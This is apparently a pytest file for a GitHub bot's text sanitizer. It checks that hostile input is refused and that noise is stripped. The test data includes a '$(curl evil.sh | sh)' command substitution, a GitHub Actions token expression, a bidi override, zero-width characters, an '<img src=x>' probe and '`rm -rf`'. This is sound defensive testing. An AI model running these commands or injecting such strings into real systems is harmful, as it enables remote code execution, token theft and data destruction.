"""Untrusted text: refused where it hides meaning, cleaned where it is noise, never silently changed in code."""

from __future__ import annotations

import pytest

from bot.github.sanitize import UnsafeText, clean, quote_for_comment


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("x\n\u202eevil\n", "line 2 holds a hidden bidirectional control character (U+202E)"),
        ("hi\n<!-- promotion-bot:status -->\n", "line 2 contains a `<!-- promotion-bot ... -->` marker"),
        ("title: ${{ github.token }}\n", "line 1 contains a GitHub Actions expression"),
        ("a\nb: $(curl evil.sh | sh)\n", "line 2 contains shell syntax `$(`"),
        ("```go\nx :=\u200b 1\n```\n", "line 2: the code holds an invisible zero-width character"),
        ("x" * 70_000, "70,000 characters long; the limit is 65,536"),
    ],
)
def test_hostile_text_is_refused_with_the_line(text, needle):
    with pytest.raises(UnsafeText) as exc:
        clean(text)
    assert any(needle in p for p in exc.value.problems), exc.value.problems


def test_noise_in_prose_is_removed_and_recorded():
    out = clean("hello<!-- a note -->\u200b world\n```go\nx := 1\n```\n")
    assert out.text == "hello world\n```go\nx := 1\n```\n"
    assert out.removed == ["HTML comments", "zero-width characters"]


def test_quotes_shown_back_cannot_mention_or_mark_up():
    q = quote_for_comment("@org/team <img src=x> `rm -rf`\nline2")
    assert "@org" not in q and "<img" not in q and "\n" not in q and q.count("`") == 2
